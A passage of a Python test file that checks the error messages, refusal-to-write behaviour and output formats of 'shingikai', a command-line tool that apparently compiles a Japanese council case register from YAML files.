    ("args", "message"),
    [
        (["--format", "csv", "-o", "register.xlsx"], "--format csv と出力先 register.xlsx の拡張子（.xlsx、xlsx）が食い違っています"),
        (["-o", "register.pdf"], "出力先 register.pdf の拡張子から形式がわかりません"),
        (["--view", "項目別", "-o", "register.csv"], "--view は table の形式でだけ使えます（csv には一覧が入ります）"),
        (["--view", "項目別", "--format", "html", "-o", "register.html"], "--view は table の形式でだけ使えます（html にはすべてのビューが入ります）"),
        (["--year", "2022", "-o", "register.csv"], "--year の「2022」は年度として読めません。令和4年度 のように和暦の年度で指定してください"),
        (["--year", "平成32年度", "-o", "register.csv"], "--year の「平成32年度」は年度として読めません"),
        (["--format", "pdf"], "「pdf」は選べません（選択肢: table, csv, xlsx, html, json）"),
        (["--view", "部課別"], "「部課別」は選べません（選択肢: 一覧, 相手方別, 項目別, 運用状況）"),
    ],
)
def test_a_usage_error_writes_nothing(repository: Path, args: list[str], message: str) -> None:
    result = report("cases/", *args, cwd=repository)
    assert result.code == 2
    assert message in result.stderr
    assert sorted(path.name for path in repository.iterdir()) == [".git", "cases", "meetings"]


def test_a_path_that_is_not_there_or_cannot_be_read_writes_nothing(repository: Path) -> None:
    (repository / "register.csv").write_text("前の台帳\n", encoding="utf-8")
    missing = report("cases/", "no-such-dir/", "-o", "register.csv", cwd=repository)
    assert (missing.code, missing.stderr) == (2, "shingikai: no-such-dir/: ファイルもディレクトリもありません\n")
    (repository / "cases" / "gone.yaml").symlink_to(repository / "nowhere.yaml")
    unreadable = report("cases/gone.yaml", "cases/koseki-cloud.yaml", "-o", "register.csv", cwd=repository)
    assert unreadable.code == 2
    assert unreadable.stderr.splitlines()[-1] == "shingikai: 読み込めないファイルがあるため、台帳を出力しませんでした"
    assert (repository / "register.csv").read_text(encoding="utf-8") == "前の台帳\n"
    assert sorted(path.name for path in repository.iterdir()) == [".git", "cases", "meetings", "register.csv"]


def test_no_yaml_file_is_a_usage_error(tmp_path: Path) -> None:
    result = report(tmp_path, "-o", tmp_path / "register.csv", cwd=tmp_path)
    assert (result.code, result.stderr) == (2, "shingikai: 台帳にする YAML ファイル（*.yaml / *.yml）が見つかりません\n")
    assert not (tmp_path / "register.csv").exists()


def test_an_output_that_is_a_directory_is_refused_whole(repository: Path) -> None:
    (repository / "register.csv").mkdir()
    result = report("cases/", "-o", "register.csv", cwd=repository)
    assert (result.code, result.stderr.splitlines()[-1]) == (2, "shingikai: 出力先 register.csv はディレクトリです。台帳のファイル名を指定してください")
    assert list((repository / "register.csv").iterdir()) == []
    assert [path.name for path in repository.iterdir() if path.name.startswith(".")] == [".git"]


def test_xlsx_is_not_written_to_a_terminal_but_to_a_pipe(repository: Path) -> None:
    leader, follower = pty.openpty()
    refused = subprocess.run([str(SHINGIKAI), "report", "cases/", "--format", "xlsx"], cwd=repository, stdout=follower, stderr=subprocess.PIPE, text=True)
    os.close(follower)
    os.close(leader)
    assert refused.returncode == 2
    assert "xlsx は端末には出力できません。-o で出力先のファイルを指定してください（例: -o register.xlsx）" in refused.stderr
    piped = subprocess.run([str(SHINGIKAI), "report", "cases/", "--format", "xlsx"], cwd=repository, capture_output=True)
    assert piped.returncode == 0
    assert openpyxl.load_workbook(io.BytesIO(piped.stdout)).sheetnames == ["一覧", "相手方別", "項目別", "運用状況"]


def test_the_readme_of_init_names_the_register_with_a_command_that_runs(tmp_path: Path) -> None:
    root = tmp_path / "審議会案件"
    assert run("init", root).code == 0
    readme = (root / "README.md").read_text(encoding="utf-8")
    [command] = [line for line in readme.splitlines() if line.startswith("shingikai report ")]
    assert command == "shingikai report cases/ meetings/ -o build/register.xlsx"
    for path in SEEDS:
        (root / "cases" / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    (root / "meetings" / "r3-3.yaml").write_text(R3_3, encoding="utf-8")
    result = subprocess.run(["bash", "-c", command], cwd=root, capture_output=True, text=True, env={**os.environ, "PATH": f"{SHINGIKAI.parent}{os.pathsep}{os.environ['PATH']}"})
    assert result.returncode == 0, result.stderr
    assert openpyxl.load_workbook(root / "build" / "register.xlsx").sheetnames == ["一覧", "相手方別", "項目別", "運用状況"]
